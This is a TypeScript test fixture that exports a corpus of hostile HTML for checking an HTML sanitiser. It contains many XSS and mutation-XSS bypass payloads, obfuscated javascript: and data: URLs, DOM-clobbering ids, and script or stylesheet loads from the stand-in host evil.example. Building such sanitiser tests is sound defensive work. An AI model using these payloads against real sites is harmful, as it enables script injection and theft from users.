/** Counts itself when it runs. */
const RUN = "window.ran=(window.ran||0)+1";
const EVIL = "//evil.example";

const words = (text: string): readonly string[] => text.trim().split(/\s+/);

const EVENTS = words(`
  onabort onafterprint onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy onbeforecut
  onbeforeinput onbeforematch onbeforepaste onbeforeprint onbeforetoggle onbeforeunload onbegin onblur oncancel
  oncanplay onchange onclick onclose oncontentvisibilityautostatechange oncontextmenu oncopy oncut ondblclick
  ondrag ondragend ondragenter ondragleave ondragover ondragstart ondrop onend onerror onfinish onfocus onfocusin
  onfocusout onformdata onfullscreenchange ongotpointercapture onhashchange oninput oninvalid onkeydown onkeypress
  onkeyup onload onloadstart onlostpointercapture onmessage onmousedown onmouseenter onmouseleave onmousemove
  onmouseout onmouseover onmouseup onmousewheel onpagehide onpageshow onpaste onplay onpointercancel onpointerdown
  onpointerenter onpointerleave onpointermove onpointerout onpointerover onpointerrawupdate onpointerup onpopstate
  onrepeat onreset onresize onscroll onscrollend onsearch onsecuritypolicyviolation onselect onselectionchange
  onselectstart onstart onstorage onsubmit ontoggle ontouchcancel ontouchend ontouchmove ontouchstart
  ontransitioncancel ontransitionend ontransitionrun ontransitionstart onunhandledrejection onunload
  onwebkitanimationstart onwheel
`);

/** What makes an element load, run, cover or send something. */
const HARM = [
  `src="${EVIL}/x" srcset="${EVIL}/x 1x" poster="${EVIL}/x" data="${EVIL}/x" background="${EVIL}/x" ping="${EVIL}/x"`,
  `href="javascript:${RUN}" action="javascript:${RUN}" formaction="javascript:${RUN}" xlink:href="javascript:${RUN}"`,
  `srcdoc="<script>parent.ran=1</script>" http-equiv=refresh content="0;url=https://evil.example/" rel=stylesheet`,
  `style="position:fixed;inset:0;background:url(${EVIL}/x.png)" class="overlay modal-open" target=_blank`,
  `onload=${RUN} onerror=${RUN} autofocus contenteditable tabindex=1 onfocus=${RUN} open ontoggle=${RUN}`,
].join(" ");

const ELEMENTS = words(`
  a applet area audio base bgsound body button details dialog div embed fencedframe form frame html iframe image img
  input isindex keygen li link map marquee math meta noscript object p picture portal script select slot source style
  svg table td template textarea track video x-card xml
`).map((name) => `<${name} ${HARM}>${RUN}</${name}>`);

/** Elements that are spelled or nested strangely, and styles. */
const SPELLINGS = [
  `<SCRIPT SRC="${EVIL}/x.js"></SCRIPT>`,
  `<script/x>${RUN}</script>`,
  `<script\n>${RUN}</script\n>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<img/src/onerror=${RUN}>`,
  `<img src=x:x onerror\n=\n${RUN}>`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<?xml-stylesheet href="javascript:${RUN}"?><p>x</p>`,
  `<!ENTITY x SYSTEM "${EVIL}"><p>&x;</p>`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<style>@import url(${EVIL}/x.css);*{x:expression(${RUN})}</style>`,
  `<p style="content:'</p><img src=x onerror=${RUN}>'">x</p>`,
  `<p style='font-family:"</style><img src=x onerror=${RUN}>"'>x</p>`,
];

/** How an address hides that it runs. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `&#1;javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\rscript:${RUN}`,
  `java&Tab;script:${RUN}`,
  `java&NewLine;script:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;avascript:${RUN}`,
  `&#0000106avascript:${RUN}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${RUN}`,
  `\u0000javascript:${RUN}`,
  `java\u0000script:${RUN}`,
  `java\u00ADscript:${RUN}`,
  `\u2028javascript:${RUN}`,
  `\uFEFFjavascript:${RUN}`,
  `https://x\njavascript:${RUN}`,
  `javascript://https://x/%0A${RUN}`,
  `javascript:/*https://*/${RUN}`,
  `vbscript:msgbox(1)`,
  `livescript:${RUN}`,
  `mocha:${RUN}`,
  `view-source:javascript:${RUN}`,
  `feed:javascript:${RUN}`,
  `jar:javascript:${RUN}!`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5yYW4rKzwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `blob:${RUN}`,
  `filesystem:https://evil.example/x`,
  `${EVIL}/x`,
  `/\\evil.example/x`,
  `\\\\evil.example\\x`,
  `/\t${EVIL}/x`,
  `https:evil.example`,
];

/** Foreign markup and what a second parse may turn into an element. */
const MUTATIONS = [
  `<svg onload=${RUN}></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text>x</text></a></svg>`,
  `<svg><set attributeName=onmouseover to="${RUN}"></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=x onerror=${RUN} /></svg>#x"></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.ran=1</script>"></iframe></foreignObject></svg>`,
  `<svg><image href="${EVIL}/x.png"></svg>`,
  `<svg><handler xmlns:ev="x" ev:event="load">${RUN}</handler></svg>`,
  `<svg><style>@import "${EVIL}/x.css"</style></svg>`,
  `<svg><title><style></title><img src=x onerror=${RUN}></style></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<svg><p><style><!--</style><img src=x onerror=${RUN}>--></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><mtext><style><img src=x onerror=${RUN}></style></mtext></math>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<form id=x></form><math><mi><style><img src=x onerror=${RUN}></style>`,
  `<template><script>${RUN}</script></template>`,
  `<div><template shadowrootmode=open><img src=x onerror=${RUN}></template></div>`,
  `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  `<noframes><img title="</noframes><img src=x onerror=${RUN}>"></noframes>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<title><p title="</title><img src=x onerror=${RUN}>"></title>`,
  `<style><p title="</style><img src=x onerror=${RUN}>"></style>`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<select><style></select><img src=x onerror=${RUN}></style></select>`,
  `<table><style><td title="</style><img src=x onerror=${RUN}>"></table>`,
  `<table><a href="javascript:${RUN}"><tr><td>x</td></tr></a></table>`,
  `<a><table><a href="javascript:${RUN}">x</a></table></a>`,
  `<p title="</p><img src=x onerror=${RUN}>">x</p>`,
  `<p title='</p><img src=x onerror=${RUN}>'>x</p>`,
  `<p title=\`</p><img src=x onerror=${RUN}>\`>x</p>`,
  `<p title="\`\`onmouseover=${RUN}">x</p>`,
  `<a href="https://x&quot; onmouseover=&quot;${RUN}">x</a>`,
  `<a href='https://x" onmouseover="${RUN}'>x</a>`,
  `<a href=https://x"onmouseover="${RUN}>x</a>`,
  `<a href="https://x"onmouseover="${RUN}">x</a>`,
  `<a href="https://x/><img src=x onerror=${RUN}>">x</a>`,
  `<a href=https://x/><img/src=x/onerror=${RUN}>x</a>`,
  `<a href="#" href="javascript:${RUN}">x</a>`,
  `<a href="javascript:${RUN}" href="#">x</a>`,
  `<a xlink:href="javascript:${RUN}" data-href="javascript:${RUN}">x</a>`,
  `<a/href="javascript:${RUN}"/onclick=${RUN}>x</a>`,
  `<<img src=x onerror=${RUN}>>`,
  `<<script>${RUN}//<</script>`,
  `< img src=x onerror=${RUN}>`,
  `<\u0000img src=x onerror=${RUN}>`,
  `<img\u0000src=x onerror=${RUN}>`,
  `<img\u000Csrc=x\u000Conerror=${RUN}>`,
  `<img src=x onerror=${RUN}//`,
  `<img src=x onerror=${RUN} <p>x</p>`,
  `<IMG SRC=x\u00A0ONERROR=${RUN}>`,
  `\uFF1Cimg src=x onerror=${RUN}\uFF1E`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `&#x3C;img src=x onerror=${RUN}&#x3E;`,
  `&lt img src=x onerror=${RUN}&gt`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!---><img src=x onerror=${RUN}>-->`,
  `<!--x--!><img src=x onerror=${RUN}>-->`,
  `<!-- --><img src=x onerror=${RUN}> -->`,
  `<!-- <!-- --> <img src=x onerror=${RUN}> -->`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  `<!-<img src=x onerror=${RUN}>->`,
  `<!><img src=x onerror=${RUN}>`,
  `<!doctype html><img src=x onerror=${RUN}>`,
  `<?php echo 1 ?><img src=x onerror=${RUN}>`,
  `<%<img src=x onerror=${RUN}>%>`,
  `</br/onclick=${RUN}><br onclick=${RUN}>`,
  `</p onclick=${RUN}><p>x</p>`,
  `</div></div></main></body></html><script>${RUN}</script>`,
  `<im<!-- x -->g src=x onerror=${RUN}>`,
  `<img src=x on<!-- x -->error=${RUN}>`,
  `<scr<!-- x -->ipt>${RUN}</scr<!-- x -->ipt>`,
];

/** Names and ids that would stand in for the site's own objects. */
const NAMES = [
  "id=root",
  "id=settings",
  "name=settings",
  "id=__FEDERATION__",
  "id=__proto__",
  "id=location",
  "id=documentElement",
  "name=cookie",
  "name=body",
  "name=getElementById",
  "id=currentScript name=src",
  "id=ran",
  "slot=page data-react-root",
  "is=x-card part=x",
  "role=alert aria-live=assertive",
  "aria-hidden=true hidden inert",
].flatMap((names) => [`<a ${names} href="https://evil.example/x">x</a>`, `<p ${names}>x</p>`]);

/**
 * HTML that must not run, load, cover, send or rename anything once sanitised. What runs raises `window.ran`;
 * what loads asks evil.example.
 */
export const hostileHtml: readonly string[] = [
  ...EVENTS.map((name, index) => `<${["p", "a", "div", "span"][index % 4]} ${name}="${RUN}">x</p>`),
  ...ADDRESSES.map((address) => `<a href="${address}">x</a>`),
  ...ELEMENTS,
  ...SPELLINGS,
  ...MUTATIONS,
  ...NAMES,
];
